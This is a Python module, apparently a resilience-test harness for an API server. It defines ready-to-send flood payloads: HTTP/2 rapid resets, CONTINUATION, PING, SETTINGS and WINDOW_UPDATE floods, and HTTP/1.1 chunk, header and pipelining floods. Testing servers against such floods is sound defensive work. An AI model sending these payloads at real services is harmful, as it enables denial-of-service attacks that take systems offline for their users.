"""Hostile input, ready to be sent: frames of HTTP/2 that cost their sender nothing, and requests of HTTP/1.1.

Each is a beginning, sent once on a connection, and a piece that is sent again and again.
"""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
PIECE_BYTES = 64 << 10


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(method: str = "GET", path: str = "/version", *more: tuple[str, str]) -> bytes:
    """Return the fields of a request, packed without a table so that each stream can have the same."""
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost"), *more]
    return Encoder().encode(fields)


def many(piece: bytes) -> bytes:
    """Return `piece`, repeated to the size of one send."""
    return piece * max(1, PIECE_BYTES // len(piece))


@dataclass(frozen=True, slots=True)
class Flood:
    """The input of a connection; `pieces` gives each next piece, by its number."""

    protocol: str  # as TLS calls it
    beginning: bytes
    pieces: Callable[[int], bytes]
    reads: bool = True  # whether the sender takes the answers


def _streams(number: int, ending: Callable[[int], bytes]) -> bytes:
    """Return some hundred new streams, each with its ending."""
    first = 1 + 2 * 200 * number
    opened = head()
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, n, opened) + ending(n) for n in range(first, first + 400, 2)
    )


_HELLO = PREFACE + frame(SETTINGS, 0, 0)
_OPEN = _HELLO + frame(
    HEADERS, END_HEADERS, 1, head("POST", "/api/v1/namespaces", ("content-type", "application/json"))
)
_CHUNKED = (
    b"POST /api/v1/namespaces HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n"
)


def _always(piece: bytes) -> Callable[[int], bytes]:
    filled = many(piece)
    return lambda _: filled


FLOODS: dict[str, Flood] = {
    "empty DATA": Flood("h2", _OPEN, _always(frame(DATA, 0, 1))),
    "padding alone": Flood("h2", _OPEN, _always(frame(DATA, PADDED, 1, b"\x05" + b"\0" * 5))),
    "PRIORITY": Flood("h2", _HELLO, _always(frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 7)))),
    "WINDOW_UPDATE": Flood("h2", _HELLO, _always(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))),
    "WINDOW_UPDATE of a stream": Flood("h2", _OPEN, _always(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))),
    "PING": Flood("h2", _HELLO, _always(frame(PING, 0, 0, b"12345678"))),
    "PING unread": Flood("h2", _HELLO, _always(frame(PING, 0, 0, b"12345678")), reads=False),
    "PING answers": Flood("h2", _HELLO, _always(frame(PING, 1, 0, b"12345678"))),
    "SETTINGS": Flood("h2", _HELLO, _always(frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)))),
    "SETTINGS of windows": Flood("h2", _OPEN, _always(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))),
    "SETTINGS answers": Flood("h2", _HELLO, _always(frame(SETTINGS, 1, 0))),
    "unknown frames": Flood("h2", _HELLO, _always(frame(0xEE, 0, 0, b"x"))),
    "resets": Flood(
        "h2", _HELLO, lambda n: _streams(n, lambda stream: frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
    ),
    "wrong window updates": Flood(
        "h2", _HELLO, lambda n: _streams(n, lambda stream: frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)))
    ),
    "requests unread": Flood("h2", _HELLO, lambda n: _streams(n, lambda _: b""), reads=False),
    "DATA of closed streams": Flood(
        "h2", _HELLO, lambda n: _streams(n, lambda stream: frame(DATA, 0, stream, b"x") * 3)
    ),
    "CONTINUATION": Flood("h2", _HELLO + frame(HEADERS, 0, 1, head()), _always(frame(CONTINUATION, 0, 1))),
    "CONTINUATION with fields": Flood(
        "h2", _HELLO + frame(HEADERS, 0, 1, head()), _always(frame(CONTINUATION, 0, 1, head()[:4] * 200))
    ),
    "trailers": Flood("h2", _OPEN, _always(frame(HEADERS, END_HEADERS, 1, Encoder().encode([("x-a", "b")])))),
    "no HTTP/2": Flood("h2", b"", _always(b"\xff" * 4096)),
    "bytes of chunks": Flood("http/1.1", _CHUNKED, _always(b"1\r\nx\r\n")),
    "chunk extensions": Flood("http/1.1", _CHUNKED, _always(b"1;" + b"x" * 200 + b"\r\nx\r\n")),
    "empty lines": Flood("http/1.1", b"", _always(b"\r\n")),
    "header lines": Flood("http/1.1", b"GET / HTTP/1.1\r\n", _always(b"X-A: b\r\n")),
    "one header line": Flood("http/1.1", b"GET / HTTP/1.1\r\nX-A: ", _always(b"x")),
    "requests in a row": Flood("http/1.1", b"", _always(b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n")),
    "requests in a row unread": Flood(
        "http/1.1", b"", _always(b"GET /version HTTP/1.1\r\nHost: x\r\n\r\n"), reads=False
    ),
    "wrong requests": Flood("http/1.1", b"", _always(b"BAD\r\n\r\n")),
}
